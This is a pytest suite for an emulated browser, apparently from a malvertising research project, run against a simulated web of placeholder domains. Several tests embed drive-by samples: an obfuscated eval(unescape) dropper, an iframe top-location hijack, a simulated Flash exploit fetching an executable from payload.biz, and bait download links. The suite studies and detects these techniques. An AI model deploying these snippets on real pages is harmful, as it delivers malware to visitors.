"""Tests for the emulated browser."""

import pytest

from repro.adscript.interpreter import Interpreter
from repro.browser import browser as browser_module
from repro.browser import events as ev
from repro.browser.bom import TopWindowProxy
from repro.browser.browser import Browser
from repro.browser.plugins import patched_profile, vulnerable_profile
from repro.malware.samples import build_executable, build_flash
from repro.web.dns import DnsResolver
from repro.web.http import HttpClient, HttpResponse, WebServer


@pytest.fixture
def world():
    """A small simulated web with one publisher and one shady host."""
    resolver = DnsResolver()
    client = HttpClient(resolver)
    pages = {}

    def add_site(domain):
        resolver.register(domain)
        server = WebServer()
        server.set_fallback(lambda req: _serve(pages, req))
        client.mount(domain, server)

    def _serve(pages, req):
        key = (req.url.host, req.url.path)
        handler = pages.get(key)
        if handler is None:
            return HttpResponse.not_found()
        if callable(handler):
            return handler(req)
        return handler

    for domain in ("pub.com", "ads.net", "evil.org", "payload.biz"):
        add_site(domain)
    return client, pages


def page(markup):
    return HttpResponse.html(f"<html><head></head><body>{markup}</body></html>")


class TestBasicLoading:
    def test_simple_page(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page("<p>hello</p>")
        load = Browser(client).load("http://pub.com/")
        assert load.ok
        assert load.page.document.body.text_content().strip() == "hello"

    def test_har_captures_traffic(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page('<img src="http://ads.net/pixel.png">')
        pages[("ads.net", "/pixel.png")] = HttpResponse.binary(b"PNG", "image/png")
        load = Browser(client).load("http://pub.com/")
        assert "ads.net" in load.har.hosts()
        assert len(load.har) == 2

    def test_nxdomain_top_level(self, world):
        client, _ = world
        load = Browser(client).load("http://nonexistent.example/")
        assert not load.ok
        assert load.events.count(ev.NX_REDIRECT) == 1

    def test_http_error_page(self, world):
        client, pages = world
        load = Browser(client).load("http://pub.com/missing")
        assert not load.ok
        assert load.error == "HTTP 404"

    def test_redirect_chain_recorded(self, world):
        client, pages = world
        pages[("pub.com", "/start")] = HttpResponse.redirect("http://ads.net/mid")
        pages[("ads.net", "/mid")] = HttpResponse.redirect("http://evil.org/end")
        pages[("evil.org", "/end")] = page("end")
        load = Browser(client).load("http://pub.com/start")
        assert load.ok
        assert load.events.count(ev.REDIRECT) == 2
        assert load.page.url.host == "evil.org"

    def test_redirect_to_nxdomain(self, world):
        client, pages = world
        pages[("pub.com", "/start")] = HttpResponse.redirect("http://gone.example/")
        load = Browser(client).load("http://pub.com/start")
        assert not load.ok
        assert load.events.count(ev.NX_REDIRECT) == 1


class TestScriptExecution:
    def test_inline_script_mutates_dom(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page(
            "<div id='out'></div>"
            "<script>document.getElementById('out').innerHTML = '<b>written</b>';</script>"
        )
        load = Browser(client).load("http://pub.com/")
        out = load.page.document.get_element_by_id("out")
        assert out.find("b").text_content() == "written"

    def test_external_script_fetched_and_run(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page('<script src="http://ads.net/lib.js"></script>')
        pages[("ads.net", "/lib.js")] = HttpResponse(
            200, {"content-type": "application/javascript"},
            b"document.write('<span id=\"tag\">x</span>');")
        load = Browser(client).load("http://pub.com/")
        assert load.page.document.get_element_by_id("tag") is not None
        assert load.events.count(ev.DOCUMENT_WRITE) == 1

    def test_document_write_script_is_executed(self, world):
        client, pages = world
        # The classic ad-network embedding: write a script tag pointing elsewhere.
        pages[("pub.com", "/")] = page(
            "<script>document.write('<script src=\"http://ads.net/ad.js\"></scr' + 'ipt>');</script>"
        )
        pages[("ads.net", "/ad.js")] = HttpResponse(
            200, {"content-type": "application/javascript"},
            b"document.write('<i id=\"inner\">ad</i>');")
        load = Browser(client).load("http://pub.com/")
        assert load.page.document.get_element_by_id("inner") is not None

    def test_script_error_recorded_not_fatal(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page("<script>totally.broken();</script><p>still here</p>")
        load = Browser(client).load("http://pub.com/")
        assert load.ok
        assert load.events.count(ev.SCRIPT_ERROR) == 1

    def test_infinite_loop_bounded(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page("<script>while (true) {}</script>")
        browser = Browser(client, step_budget=5_000)
        load = browser.load("http://pub.com/")
        assert load.ok
        errors = load.events.of_kind(ev.SCRIPT_ERROR)
        assert errors and errors[0].data["error"] == "budget_exceeded"

    def test_eval_recorded(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page("<script>eval('1 + 1');</script>")
        load = Browser(client).load("http://pub.com/")
        assert load.events.count(ev.EVAL_CALL) == 1

    def test_settimeout_callback_runs(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page(
            "<script>setTimeout(function () {"
            " document.write('<u id=\"late\">t</u>'); }, 5000);</script>"
        )
        load = Browser(client).load("http://pub.com/")
        assert load.events.count(ev.TIMER_SET) == 1
        assert load.page.document.get_element_by_id("late") is not None

    def test_dynamically_created_script_element(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page(
            "<script>var s = document.createElement('script');"
            "s.src = 'http://ads.net/dyn.js';"
            "document.body.appendChild(s);</script>"
        )
        pages[("ads.net", "/dyn.js")] = HttpResponse(
            200, {"content-type": "application/javascript"},
            b"document.write('<em id=\"dyn\">d</em>');")
        load = Browser(client).load("http://pub.com/")
        assert load.page.document.get_element_by_id("dyn") is not None


class TestFrames:
    def test_iframe_loaded_as_child_frame(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page('<iframe src="http://ads.net/ad.html"></iframe>')
        pages[("ads.net", "/ad.html")] = page("<p>the ad</p>")
        load = Browser(client).load("http://pub.com/")
        frames = load.page.iframes()
        assert len(frames) == 1
        assert frames[0].url.host == "ads.net"
        assert frames[0].document.body.text_content().strip() == "the ad"

    def test_nested_iframes(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page('<iframe src="http://ads.net/outer.html"></iframe>')
        pages[("ads.net", "/outer.html")] = page('<iframe src="http://evil.org/inner.html"></iframe>')
        pages[("evil.org", "/inner.html")] = page("x")
        load = Browser(client).load("http://pub.com/")
        assert len(load.page.iframes()) == 2
        assert load.page.iframes()[1].depth == 2

    def test_frame_depth_limit(self, world):
        client, pages = world
        # Self-nesting iframe should stop at the depth limit.
        pages[("pub.com", "/")] = page('<iframe src="http://pub.com/"></iframe>')
        load = Browser(client).load("http://pub.com/")
        assert load.ok
        assert all(f.depth <= 5 for f in load.page.all_frames())

    def test_top_location_hijack_from_iframe(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page('<iframe src="http://ads.net/hijack.html"></iframe>')
        pages[("ads.net", "/hijack.html")] = page(
            "<script>top.location.href = 'http://evil.org/landing';</script>"
        )
        pages[("evil.org", "/landing")] = page("you were hijacked")
        load = Browser(client).load("http://pub.com/")
        hijacks = load.events.of_kind(ev.TOP_NAVIGATION)
        assert len(hijacks) == 1
        assert hijacks[0].data["cross_frame"] is True
        assert hijacks[0].data["target"] == "http://evil.org/landing"
        # The hijack target was actually visited.
        assert any(e.host == "evil.org" for e in load.har)

    def test_same_frame_navigation_followed(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page(
            "<script>window.location = 'http://ads.net/next.html';</script>"
        )
        pages[("ads.net", "/next.html")] = page("next")
        load = Browser(client).load("http://pub.com/")
        assert load.events.count(ev.NAVIGATION) == 1
        assert any(e.host == "ads.net" for e in load.har)


class TestPluginsAndExploits:
    def test_navigator_plugins_probe_recorded(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page(
            "<script>var p = navigator.plugins.namedItem('Flash'); var v = p ? p.version : 'none';</script>"
        )
        load = Browser(client).load("http://pub.com/")
        assert load.events.count(ev.PLUGIN_PROBE) == 1

    def test_flash_exploit_fires_on_vulnerable_profile(self, world):
        client, pages = world
        swf = build_flash("e1", exploit_cve="CVE-2013-0634",
                          payload_url="http://payload.biz/drop.exe")
        exe = build_executable("fakerean", "drop-1")
        pages[("pub.com", "/")] = page('<embed src="http://evil.org/ad.swf">')
        pages[("evil.org", "/ad.swf")] = HttpResponse.binary(swf, "application/x-shockwave-flash")
        pages[("payload.biz", "/drop.exe")] = HttpResponse.binary(exe, "application/x-msdownload")
        browser = Browser(client, plugin_profile=vulnerable_profile())
        load = browser.load("http://pub.com/")
        assert load.events.count(ev.EXPLOIT_ATTEMPT) == 1
        assert load.events.count(ev.EXPLOIT_SUCCESS) == 1
        drops = [d for d in load.downloads if d.initiated_by == "exploit"]
        assert len(drops) == 1
        assert drops[0].is_executable

    def test_flash_exploit_fails_on_patched_profile(self, world):
        client, pages = world
        swf = build_flash("e1", exploit_cve="CVE-2013-0634",
                          payload_url="http://payload.biz/drop.exe")
        pages[("pub.com", "/")] = page('<embed src="http://evil.org/ad.swf">')
        pages[("evil.org", "/ad.swf")] = HttpResponse.binary(swf, "application/x-shockwave-flash")
        browser = Browser(client, plugin_profile=patched_profile())
        load = browser.load("http://pub.com/")
        assert load.events.count(ev.EXPLOIT_ATTEMPT) == 1
        assert load.events.count(ev.EXPLOIT_SUCCESS) == 0
        assert not [d for d in load.downloads if d.initiated_by == "exploit"]

    def test_benign_flash_no_exploit(self, world):
        client, pages = world
        pages[("pub.com", "/")] = page('<embed src="http://ads.net/banner.swf">')
        pages[("ads.net", "/banner.swf")] = HttpResponse.binary(
            build_flash("banner"), "application/x-shockwave-flash")
        load = Browser(client).load("http://pub.com/")
        assert load.events.count(ev.EXPLOIT_ATTEMPT) == 0
        assert len(load.downloads.flash_files()) == 1


class TestDownloads:
    def test_script_navigation_to_exe_is_download(self, world):
        client, pages = world
        exe = build_executable("winwebsec", "w1")
        pages[("pub.com", "/")] = page(
            "<script>window.location = 'http://evil.org/update.exe';</script>"
        )
        pages[("evil.org", "/update.exe")] = HttpResponse.binary(exe, "application/x-msdownload")
        load = Browser(client).load("http://pub.com/")
        assert len(load.downloads.executables()) == 1

    def test_popup_download(self, world):
        client, pages = world
        exe = build_executable("reveton", "r9")
        pages[("pub.com", "/")] = page(
            "<script>window.open('http://evil.org/codec.exe');</script>"
        )
        pages[("evil.org", "/codec.exe")] = HttpResponse.binary(exe, "application/x-msdownload")
        load = Browser(client).load("http://pub.com/")
        assert load.events.count(ev.POPUP) == 1
        assert len(load.downloads.executables()) == 1

    def test_click_on_bait_link_downloads(self, world):
        client, pages = world
        exe = build_executable("fakerean", "f2")
        pages[("pub.com", "/")] = page(
            '<a id="bait" href="http://evil.org/player.exe">Install missing plugin</a>'
        )
        pages[("evil.org", "/player.exe")] = HttpResponse.binary(exe, "application/x-msdownload")
        browser = Browser(client)
        load = browser.load("http://pub.com/")
        anchor = load.page.document.find("a")
        browser.click(load, load.page.main_frame, anchor)
        clicked = [d for d in load.downloads if d.initiated_by == "user_click"]
        assert len(clicked) == 1


class TestObfuscatedDropper:
    def test_unescape_eval_dropper_detected_via_behaviour(self, world):
        client, pages = world
        # 'window.open("http://evil.org/p.exe")' hidden behind unescape+eval.
        import urllib.parse

        code = 'window.open("http://evil.org/p.exe");'
        encoded = "".join(f"%{ord(c):02x}" for c in code)
        pages[("pub.com", "/")] = page(f"<script>eval(unescape('{encoded}'));</script>")
        pages[("evil.org", "/p.exe")] = HttpResponse.binary(
            build_executable("sality", "s3"), "application/x-msdownload")
        load = Browser(client).load("http://pub.com/")
        assert load.events.count(ev.EVAL_CALL) == 1
        assert len(load.downloads.executables()) == 1


@pytest.fixture
def built(monkeypatch):
    """Every interpreter the browser builds, in build order."""
    made = []

    class CountingInterpreter(Interpreter):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            made.append(self)

    monkeypatch.setattr(browser_module, "Interpreter", CountingInterpreter)
    return made


# Late-running code stores what it can see in document.cookie.
PROBE = ("document.cookie = typeof window + ',' + (window.document === document)"
         " + ',' + typeof top.location + ',' + typeof parent.location;")
SEES_BOM = "object,true,object,object"


def probed(load):
    return [e.data["cookie"] for e in load.events.of_kind(ev.COOKIE_SET)]


def serve_probe(pages):
    pages[("ads.net", "/late.js")] = HttpResponse(
        200, {"content-type": "application/javascript"}, PROBE.encode())


class TestLazyScriptContext:
    def test_scriptless_frames_build_no_interpreter(self, world, built):
        client, pages = world
        pages[("pub.com", "/")] = page('<p>news</p><iframe src="http://ads.net/ad.html"></iframe>')
        pages[("ads.net", "/ad.html")] = page('<img src="http://ads.net/b.gif">')
        load = Browser(client).load("http://pub.com/")
        assert len(load.page.all_frames()) == 2
        assert built == []

    def test_click_on_plain_anchor_builds_no_interpreter(self, world, built):
        client, pages = world
        pages[("pub.com", "/")] = page('<a href="http://ads.net/landing">go</a>')
        pages[("ads.net", "/landing")] = page("landing")
        browser = Browser(client)
        load = browser.load("http://pub.com/")
        browser.click(load, load.page.main_frame, load.page.document.find("a"))
        assert any(e.host == "ads.net" for e in load.har)
        assert built == []

    def test_only_frames_that_run_script_build_one(self, world, built):
        client, pages = world
        pages[("pub.com", "/")] = page(
            '<iframe src="http://ads.net/a.html"></iframe>'
            '<iframe src="http://ads.net/b.html"></iframe>')
        pages[("ads.net", "/a.html")] = page("<script>var x = 1;</script>")
        pages[("ads.net", "/b.html")] = page("plain")
        Browser(client).load("http://pub.com/")
        assert len(built) == 1

    def test_timer_string_sees_bom(self, world, built):
        client, pages = world
        pages[("pub.com", "/")] = page(f'<script>setTimeout("{PROBE}", 10);</script>')
        assert probed(Browser(client).load("http://pub.com/")) == [SEES_BOM]

    def test_onload_handler_sees_bom(self, world, built):
        client, pages = world
        pages[("pub.com", "/")] = page(
            f"<script>window.onload = function () {{ {PROBE} }};</script>")
        assert probed(Browser(client).load("http://pub.com/")) == [SEES_BOM]

    def test_document_written_script_sees_bom(self, world, built):
        client, pages = world
        pages[("pub.com", "/")] = page(
            "<script>document.write('<script src=\"http://ads.net/late.js\"></scr' + 'ipt>');"
            "</script>")
        serve_probe(pages)
        assert probed(Browser(client).load("http://pub.com/")) == [SEES_BOM]
        assert len(built) == 1

    def test_appended_script_sees_bom(self, world, built):
        client, pages = world
        pages[("pub.com", "/")] = page(
            "<script>var s = document.createElement('script');"
            "s.src = 'http://ads.net/late.js';"
            "document.body.appendChild(s);</script>")
        serve_probe(pages)
        assert probed(Browser(client).load("http://pub.com/")) == [SEES_BOM]

    def test_xhr_callback_sees_bom(self, world, built):
        client, pages = world
        pages[("pub.com", "/")] = page(
            "<script>var xhr = new XMLHttpRequest();"
            "xhr.open('GET', 'http://ads.net/config.json');"
            f"xhr.onreadystatechange = function () {{ {PROBE} }};"
            "xhr.send();</script>")
        pages[("ads.net", "/config.json")] = HttpResponse(
            200, {"content-type": "application/json"}, b"{}")
        assert probed(Browser(client).load("http://pub.com/")) == [SEES_BOM]

    def test_subframe_top_is_cross_origin_proxy(self, world, built):
        client, pages = world
        pages[("pub.com", "/")] = page(
            '<script>var t = 1;</script><iframe src="http://ads.net/ad.html"></iframe>')
        pages[("ads.net", "/ad.html")] = page(f"<script>{PROBE}</script>")
        load = Browser(client).load("http://pub.com/")
        assert probed(load) == [SEES_BOM]
        main, sub = built
        assert main.globals.lookup("top") is main.globals.lookup("window")
        assert isinstance(sub.globals.lookup("top"), TopWindowProxy)
        assert isinstance(sub.globals.lookup("parent"), TopWindowProxy)
